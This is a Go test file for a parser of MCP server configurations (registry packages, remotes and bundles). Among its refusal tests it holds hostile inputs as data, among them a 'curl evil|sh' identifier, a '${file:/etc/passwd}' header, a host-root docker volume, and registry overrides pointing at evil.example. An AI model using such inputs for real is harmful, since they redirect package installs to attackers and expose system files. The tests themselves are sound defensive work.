package config

import (
	"fmt"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// described reads a file that describes one server.
func described(t *testing.T, data string, ask func(Input) (string, error)) outcome {
	t.Helper()
	file, err := parse([]byte(data), source{path: "/x/server.json", Options: Options{Input: ask}, env: environment("A=secret", "TOKEN=secret")})
	require.NoError(t, err, data)
	require.Len(t, file.servers, 1, data)
	return file.servers[0]
}

func TestPackagesOfTheRegistry(t *testing.T) {
	t.Parallel()
	var asked []Input
	ask := func(in Input) (string, error) {
		asked = append(asked, in)
		return "answer", nil
	}
	for _, test := range []struct{ packages, want string }{
		{`{"registryType": "pypi", "registryBaseUrl": "https://pypi.example/", "identifier": "weather", "version": "1.0"}`, `uvx ["weather@1.0"] map[]`},
		{`{"registryType": "npm", "identifier": "@a/weather", "runtimeArguments": [{"type": "named", "name": "--quiet", "value": "1"}]}`, `npx ["-y" "--quiet" "1" "--" "@a/weather"] map[]`},
		{
			`{"registryType": "oci", "identifier": "a/weather", "version": "1.0", "environmentVariables": [{"name": "B", "value": "b"}, {"name": "A", "default": "a"}, {"name": "C"}]}`,
			`docker ["run" "-i" "--rm" "-e" "A" "-e" "B" "--" "a/weather:1.0"] map[A:a B:b]`,
		},
		{`{"registryType": "oci", "identifier": "ghcr.io:443/a/weather:2.0", "version": "1.0"}`, `docker ["run" "-i" "--rm" "--" "ghcr.io:443/a/weather:2.0"] map[]`},
		{`{"registryType": "nuget", "identifier": "x"}, {"registryType": "npm", "identifier": "y", "transport": {"type": "sse"}}, {"registryType": "npm", "identifier": "z"}`, `npx ["-y" "--" "z"] map[]`},
		{
			`{"registryType": "npm", "identifier": "x", "packageArguments": [{"type": "positional", "valueHint": "folder", "isRequired": true, "choices": ["a", "b"]}, {"type": "named", "name": "--$", "value": "$5"}]}`,
			`npx ["-y" "--" "x" "answer" "--$" "$5"] map[]`,
		},
	} {
		s := described(t, `{"name": "io.github.a/weather", "packages": [`+test.packages+`]}`, ask)
		require.NoError(t, s.err, test.packages)
		assert.Equal(t, "weather", s.Name)
		assert.Equal(t, test.want, fmt.Sprintf("%s %q %v", s.Command, s.Args, s.Env), test.packages)
	}
	assert.Equal(t, []Input{{ID: "folder", Choices: []string{"a", "b"}}}, asked)
	s := described(t, `{"name": "x", "packages": [{"registryType": "npm", "identifier": "x", "environmentVariables": [{"name": "KEY", "isRequired": true}, {"name": "OTHER", "isRequired": true}]}]}`, nil)
	assert.ErrorContains(t, s.err, `"${input:KEY}"`)
	assert.ErrorContains(t, s.err, `"${input:OTHER}"`)
}

func TestServersOfTheRegistryThatAreRefused(t *testing.T) {
	t.Parallel()
	for data, want := range map[string]string{
		`{"name": "a/x", "packages": [{"registryType": "npm", "registryBaseUrl": "https://npm.corp", "identifier": "x"}]}`:                        `packages of the registry "https://npm.corp" are not supported: npx takes them from its usual one`,
		`{"name": "a/x", "packages": [{"registryType": "nuget", "identifier": "x"}]}`:                                                             "there is no remote, and no package of npm, PyPI or a registry of images",
		`{"name": "a/x", "packages": {"npm": "x"}}`:                                                                                               `"packages" is not as a server.json has it`,
		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x/${A}"}]}`:                                                                  `"${" has no meaning in a server.json`,
		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x", "headers": [{"name": "H", "value": "\u0024{file:/etc/passwd}"}]}]}`:      `"${" has no meaning in a server.json`,
		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x/{b}{c}", "variables": {"b": {"default": "$"}, "c": {"default": "{1}"}}}]}`: `"${" has no meaning in a server.json`,
	} {
		_, err := parse([]byte(data), source{env: environment("A=secret")})
		assert.ErrorContains(t, err, want, data)
	}
}

func TestBundles(t *testing.T) {
	t.Parallel()
	bundle := func(config, settings string) string {
		return `{"name": "b", "server": {"mcp_config": {` + config + `}}, "user_config": {` + settings + `}}`
	}
	for _, test := range []struct{ config, settings, want string }{
		{`"command": "${__dirname}/run", "args": ["${/}", "${A}"]`, ``, `/x/run ["/" "secret"] map[]`},
		{`"command": "run", "args": ["${user_config.n}", "x${user_config.n}"]`, `"n": {"default": 1.50}`, `run ["1.50" "x1.50"] map[]`},
		{`"command": "run", "args": ["${user_config.l}", "-"]`, `"l": {"default": ["a", "b"]}`, `run ["a" "b" "-"] map[]`},
		{`"command": "run", "args": ["${user_config.l}"], "env": {"L": "${user_config.l}"}`, `"l": {"default": ["a"]}`, `run ["a"] map[L:a]`},
		{`"command": "run", "env": {"A": "1", "B": "2"}, "platform_overrides": {"linux": {"command": "own", "env": {"B": "3"}}, "darwin": {"command": "own", "env": {"B": "3"}}, "win32": {"command": "own", "env": {"B": "3"}}}`, ``, `own [] map[A:1 B:3]`},
	} {
		s := described(t, bundle(test.config, test.settings), nil)
		require.NoError(t, s.err, test.config)
		assert.Equal(t, test.want, fmt.Sprintf("%s %q %v", s.Command, s.Args, s.Env), test.config)
	}
	for _, settings := range []string{`"k": {"title": "Key", "default": null}`, `"k": {"title": "Key", "default": []}`, `"k": {"title": "Key", "required": false}`} {
		s := described(t, bundle(`"command": "run", "args": ["${user_config.k}"], "env": {"A": "${user_config.none}"}`, settings), nil)
		assert.ErrorContains(t, s.err, `"${input:user_config.k}": the user must be asked for "Key"`, settings)
		assert.ErrorContains(t, s.err, `"inputs" does not have it`, settings)
	}
	for data, want := range map[string]string{
		bundle(`"command": "run", "env": {"L": "${user_config.l}"}`, `"l": {"default": ["a", "b"]}`): `"user_config": "l" has several values, and these must be arguments of their own`,
		bundle(`"command": ["run"]`, ``): `want "command", "args" and "env" in "server.mcp_config"`,
	} {
		_, err := parse([]byte(data), source{env: environment()})
		assert.ErrorContains(t, err, want)
	}
}

// Variables that name others would make 4^11 bytes of these, and more with each level.
func TestValuesOfTheRegistryStaySmall(t *testing.T) {
	t.Parallel()
	published := func(arguments string) string {
		return `{"name": "x", "packages": [{"registryType": "npm", "identifier": "p", "packageArguments": [` + arguments + `]}]}`
	}
	siblings, nested := "", `{"default": "x"}`
	for c := 'a'; c < 'l'; c++ {
		siblings += fmt.Sprintf(`"%c": {"default": "{%[2]c}{%[2]c}{%[2]c}{%[2]c}"}, `, c, c+1)
		nested = `{"default": "{v}{v}{v}{v}", "variables": {"v": ` + nested + `}}`
	}
	half := fmt.Sprintf(`{"value": "{v}{v}", "variables": {"v": {"default": "%s"}}}`, strings.Repeat("x", 64<<10/2))
	for arguments, want := range map[string]string{
		`{"value": "{a}", "variables": {` + siblings + `"l": {"default": "x"}}}`: `"{b}" is not in "variables"`,
		nested:                               `"{v}" makes a value of more than 65536 bytes`,
		strings.Repeat(half+", ", 16) + half: "the values with their variables have more than 1048576 bytes",
	} {
		_, err := parse([]byte(published(arguments)), source{env: environment()})
		assert.ErrorContains(t, err, want)
	}
	s := described(t, published(half), nil)
	require.NoError(t, s.err)
	assert.Len(t, s.Args[3], 64<<10)
}

func TestVariablesOfTheRegistryWithoutValue(t *testing.T) {
	t.Parallel()
	remote := func(members string) string {
		return `{"name": "x", "remotes": [{"type": "streamable-http", ` + members + `}]}`
	}
	pack := func(members string) string {
		return `{"name": "x", "packages": [{"registryType": "npm", "identifier": "p", ` + members + `}]}`
	}
	for data, want := range map[string]string{
		remote(`"url": "https://x/mcp", "headers": [{"name": "Authorization", "value": "Bearer {token}", "isRequired": true}]`): `"{token}" is not in "variables"`,
		remote(`"url": "https://x/{tenant}/mcp"`):                                                                                             `"{tenant}" is not in "variables"`,
		pack(`"environmentVariables": [{"name": "K", "value": "{token}"}]`):                                                                   `"{token}" is not in "variables"`,
		pack(`"packageArguments": [{"type": "named", "name": "--{n}", "value": "x"}]`):                                                        `"{n}" is not in "variables"`,
		pack(`"packageArguments": [{"value": "{a}", "variables": {"a": {"default": "{b}"}, "b": {"default": "{a}"}}}]`):                       `"{b}" is not in "variables"`,
		pack(`"packageArguments": [{"value": "$\u0000\u0000{env:A}"}]`):                                                                       "has a NUL byte",
		pack(`"packageArguments": [{"valueHint": "x}${env:A", "isRequired": true}]`):                                                          `"x}${env:A" can't be asked for`,
		pack(`"packageArguments": [{"value": "{v}", "variables": {"v": {"default": "a{b}", "variables": {"c": {"default": "not asked"}}}}}]`): `"{b}" is not in "variables"`,
	} {
		_, err := parse([]byte(data), source{env: environment("A=secret")})
		assert.ErrorContains(t, err, want, data)
	}
	s := described(t, remote(`"url": "https://x/mcp", "headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {}}}]`), nil)
	require.NoError(t, s.err)
	assert.Empty(t, s.Headers)
	s = described(t, pack(`"environmentVariables": [{"name": "K", "value": "a{v}", "variables": {"v": {}}}], "packageArguments": [{"type": "named", "name": "--k", "value": "{v}b", "variables": {"v": {}}}, {"value": "{\"a\": 1}"}]`), nil)
	require.NoError(t, s.err)
	assert.Equal(t, []string{"-y", "--", "p", `{"a": 1}`}, s.Args)
	assert.Empty(t, s.Env)
	s = described(t, remote(`"url": "https://{host}/mcp", "variables": {"host": {}}`), func(in Input) (string, error) { return in.ID + ".example", nil })
	require.NoError(t, s.err)
	assert.Equal(t, "https://host.example/mcp", s.URL)
}

func TestPackagesFromElsewhereAreRefused(t *testing.T) {
	t.Parallel()
	pack := func(kind, identifier, members string) string {
		return fmt.Sprintf(`{"registryType": %q, "identifier": %q%s}`, kind, identifier, members)
	}
	option := func(arg string) string {
		return `, "runtimeArguments": [{"type": "positional", "value": "` + arg + `"}]`
	}
	variable := func(name string) string { return `, "environmentVariables": [{"name": "` + name + `", "value": "x"}]` }
	for _, p := range []string{
		pack("npm", "--call=curl evil|sh", ""), pack("npm", "--registry=https://evil.example", ""), pack("npm", "https://evil.example/x.tgz", ""), pack("npm", "file:../x", ""), pack("npm", "evil/x", ""), pack("npm", "", ""),
		pack("npm", "p", `, "version": "https://evil.example/x.tgz"`), pack("npm", "p", `, "version": "npm:evil"`),
		pack("npm", "p", `, "runtimeArguments": [{"type": "named", "name": "--registry", "value": "https://evil.example"}]`),
		pack("npm", "p", option("--registry=x")), pack("npm", "p", option("-reg=x")), pack("npm", "p", option("--@a:registry=x")), pack("npm", "p", option("-yc")), pack("npm", "p", option("--call")), pack("npm", "p", option("evil/x")),
		pack("npm", "p", variable("npm_config_registry")),
		pack("pypi", "--index-url=https://evil.example", ""), pack("pypi", "p @ https://evil.example", ""), pack("pypi", ".", ""),
		pack("pypi", "p", option("--index=x")), pack("pypi", "p", option("--from=git+https://evil.example")), pack("pypi", "p", option(".")), pack("pypi", "p", option("-ix")),
		pack("pypi", "p", variable("UV_INDEX")),
		pack("oci", "--volume=/:/host", ""), pack("oci", "https://evil.example/image", ""), pack("oci", "a b", ""), pack("oci", "a/b", variable("DOCKER_HOST")), pack("oci", "a/b", variable("KEY=")),
	} {
		file, err := Parse([]byte(`{"$schema": "s", "name": "x", "packages": [`+p+`]}`), "server.json", nil)
		assert.Error(t, err, "%+v", file.Servers)
	}
	long := "/" + strings.Repeat("x", 300) // is not shown whole
	for _, p := range []string{
		pack("npm", long, ""), pack("npm", "p", option("--registry="+long)), pack("npm", "p", variable("npm_config_"+long)), pack("npm", "p", `, "registryBaseUrl": "https://evil.example`+long+`"`),
	} {
		_, err := Parse([]byte(`{"$schema": "s", "name": "x", "packages": [`+p+`]}`), "server.json", nil)
		require.Error(t, err)
		shown := regexp.MustCompile(`"([^"]*x…)"`).FindStringSubmatch(err.Error())
		require.Len(t, shown, 2, "%v", err)
		assert.Equal(t, 200, utf8.RuneCountInString(shown[1]), "%v", err)
	}
	for _, p := range []string{
		pack("npm", "@a/b.c-d_e", `, "version": "1.0.0-rc.1+x"`), pack("npm", "p@1.0", option("--prefer-offline")), pack("pypi", "a.b[c,d]", `, "version": "1!2.0"`), pack("pypi", "p==1.0", option("--from=q==2.0")),
		pack("pypi", "p", `, "runtimeArguments": [{"type": "named", "name": "--python", "value": "3.12"}]`),
		pack("oci", "ghcr.io:443/a/b@sha256:00ff", option("--volume=/x:/y")),
	} {
		_, err := Parse([]byte(`{"$schema": "s", "name": "x", "packages": [`+p+`]}`), "server.json", nil)
		assert.NoError(t, err, p)
	}
}

// A named argument without a value may be meant as a flag, or be up to the user.
func TestNamedArgumentsWithoutValue(t *testing.T) {
	t.Parallel()
	file, err := parse([]byte(`{"name": "x/y", "packages": [{"registryType": "npm", "identifier": "p", "packageArguments": [
		{"type": "named", "name": "--flag"}, {"type": "named", "name": "--key", "value": "{k}", "variables": {"k": {}}},
		{"type": "named", "name": "--set", "value": "1"}, {"type": "positional", "valueHint": "x"}]}]}`), source{})
	require.NoError(t, err)
	require.Len(t, file.servers, 1)
	assert.Equal(t, []string{"-y", "--", "p", "--set", "1"}, file.servers[0].Args)
	assert.Equal(t, []string{`the argument "--flag" has no value, so it is left out`, `the argument "--key" has no value, so it is left out`}, file.notes)
}

// To encoding/json, keys that differ by letter case only are one key.
func TestKeysTwiceInBundlesAndPublishedServers(t *testing.T) {
	t.Parallel()
	bundle := func(config string) string { return `{"name": "b", "server": {"mcp_config": {` + config + `}}}` }
	published := func(members string) string { return `{"name": "x/y", ` + members + `}` }
	for data, key := range map[string]string{
		bundle(`"command": "good", "command": "evil"`):                                                                             "command",
		bundle(`"command": "good", "COMMAND": "evil"`):                                                                             "COMMAND",
		bundle(`"command": "good", "platform_overrides": {"linux": {"arg\u017f": [], "args": []}}`):                                "args",
		bundle(`"command": "good", "env": {"A": "good", "A": "evil"}`):                                                             "A",
		`{"name": "b", "server": {"mcp_config": {"command": "good"}}, "SERVER": {"mcp_config": {"command": "evil"}}}`:              "SERVER",
		published(`"packages": [{"registryType": "npm", "identifier": "good", "identifier": "evil"}]`):                             "identifier",
		published(`"packages": [{"registryType": "npm", "identifier": "good", "Identifier": "evil"}]`):                             "Identifier",
		published(`"packages": [{"registryType": "npm", "identifier": "a", "packageArguments": [[], {"x": {"a": [1], "A": 2}}]}]`): "A",
		published(`"remotes": [{"type": "sse", "url": "https://good", "url": "https://evil"}]`):                                    "url",
	} {
		_, err := parse([]byte(data), source{env: environment()})
		assert.EqualError(t, err, fmt.Sprintf("%q is there twice", key), data)
	}
	s := described(t, bundle(`"command": "x", "args": ["a", "a"], "env": {"http_proxy": "1", "HTTP_PROXY": "2"}`), nil)
	require.NoError(t, s.err)
	assert.Equal(t, map[string]string{"http_proxy": "1", "HTTP_PROXY": "2"}, s.Env)
}

func TestDisabledBundlesAndPublishedServers(t *testing.T) {
	t.Parallel()
	for _, data := range []string{
		`{"name": "b", "disabled": %s, "server": {"mcp_config": {"command": "x"}}}`,
		`{"name": "b", "server": {"mcp_config": {"command": "x", "disabled": %s}}}`,
		`{"name": "x", "disabled": %s, "remotes": [{"type": "sse", "url": "https://x"}]}`,
		`{"name": "x", "remotes": [{"type": "sse", "url": "https://x", "disabled": %s}]}`,
		`{"name": "x", "packages": [{"registryType": "npm", "identifier": "x", "disabled": %s}]}`,
	} {
		for _, disabled := range []bool{true, false} {
			s := described(t, fmt.Sprintf(data, fmt.Sprint(disabled)), nil)
			require.NoError(t, s.err)
			assert.Equal(t, disabled, s.Disabled, data)
		}
	}
}

// What switches a bundle's server or tools off is obeyed.
func TestSwitchesOfBundles(t *testing.T) {
	read := func(keys string) ([]Server, error) {
		file, err := Parse([]byte(`{"name": "b", "server": {"mcp_config": {"command": "x", `+keys+`}}}`), "manifest.json", nil)
		if err != nil {
			return nil, err
		}
		return file.Servers, nil
	}
	list, err := read(`"disabledTools": ["rm"], "cwd": "/srv"`)
	require.NoError(t, err)
	require.Len(t, list, 1)
	assert.Equal(t, "/srv", list[0].Dir)
	s := described(t, `{"name": "b", "server": {"mcp_config": {"command": "x", "cwd": "${user_config.d}/a"}}, "user_config": {"d": {"default": "/srv"}}}`, nil)
	require.NoError(t, s.err)
	assert.Equal(t, "/srv/a", s.Dir)
	assert.NotEmpty(t, list[0].Tools.Deny)
	for _, keys := range []string{`"enabled": false`, `"platform_overrides": {"` + strings.Replace(runtime.GOOS, "windows", "win32", 1) + `": {"enabled": false}}`} {
		list, err = read(keys)
		require.NoError(t, err)
		require.Len(t, list, 1, keys)
		assert.True(t, list[0].Disabled, keys)
	}
}

// What bundles do not define is read as in other files.
func TestOtherKeysOfBundles(t *testing.T) {
	t.Parallel()
	for _, keys := range []string{
		`"excludeTools": ["rm(x)"]`, `"disabled_tools": ["rm"]`, `"disallowedTools": ["rm"]`, `"includeTools": ["ls"]`, `"enabledTools": []`, `"tools": {"allow": ["ls"], "deny": ["rm"]}`, `"tools": ["ls"]`,
		`"isActive": false`, `"omit_tools_from": ["direct", "deferred"]`, `"workingDirectory": "${workspaceFolder}/a"`, `"prefix": "p"`, `"timeout": "5s"`, `"needs": {"a": ["b"]}`,
		`"sandbox": true`, `"type": "http"`, `"disabledTools": "rm"`, `"url": "http://h"`, `"autoApprove": ["x"]`, `"excludeTool": ["rm"]`,
	} {
		server := `{"command": "run", "env": {}, ` + keys + `}`
		want, err := parse([]byte(`{"mcpServers": {"b": `+server+`}}`), source{})
		require.NoError(t, err, keys)
		got, err := parse([]byte(`{"name": "b", "server": {"mcp_config": `+server+`}}`), source{})
		require.NoError(t, err, keys)
		got.dialect = want.dialect
		assert.Equal(t, want, got, keys)
	}
	here := strings.Replace(runtime.GOOS, "windows", "win32", 1)
	s := described(t, `{"name": "b", "server": {"mcp_config": {"command": "run", "excludeTools": ["a"], "isActive": false, "platform_overrides": {"`+here+`": {"excludeTools": ["b"], "isActive": null}}}}}`, nil)
	assert.True(t, s.Disabled, "null switches nothing on")
	s = described(t, `{"name": "b", "server": {"mcp_config": {"command": "run", "excludeTools": ["a"], "platform_overrides": {"`+here+`": {"excludeTools": ["b"], "envFile": null}}}}}`, nil)
	require.NoError(t, s.err)
	assert.Equal(t, []string{"b"}, s.Tools.Deny, "this system's own list counts")
}

func TestUsualRegistry(t *testing.T) {
	t.Parallel()
	usual := launchers["npm"].usual
	for registry, want := range map[string]bool{
		"https://packages." + usual + ".example": true, "https://" + usual + ".example/": true, "https://packages." + usual + ".test:443/x": true,
		"https://" + usual + ".evil.example": false, "https://evil.example/" + usual + ".example": false, "https://" + usual + "@evil.example": false,
		"https://localhost": false, "https://" + usual: false, "https://": false, "": false, usual + ".example": false, "https://%zz": false,
	} {
		assert.Equal(t, want, launchers["npm"].takesFrom(registry), registry)
	}
}

// npm takes the beginnings of its options for them, from two letters on.
func TestOptionsThatLeadElsewhere(t *testing.T) {
	t.Parallel()
	for arg, want := range map[string]bool{
		"--registry": true, "--reg": true, "--re": true, "--r": false, "-y": false, "--": false, "--yes": false, "-c": true, "--c": false, "--ca": true,
	} {
		assert.Equal(t, want, launchers["npm"].elsewhere(arg), arg)
	}
	for arg, want := range map[string]bool{"--index": true, "--inde": false, "-i": true, "--": false} {
		assert.Equal(t, want, launchers["pypi"].elsewhere(arg), arg)
	}
}
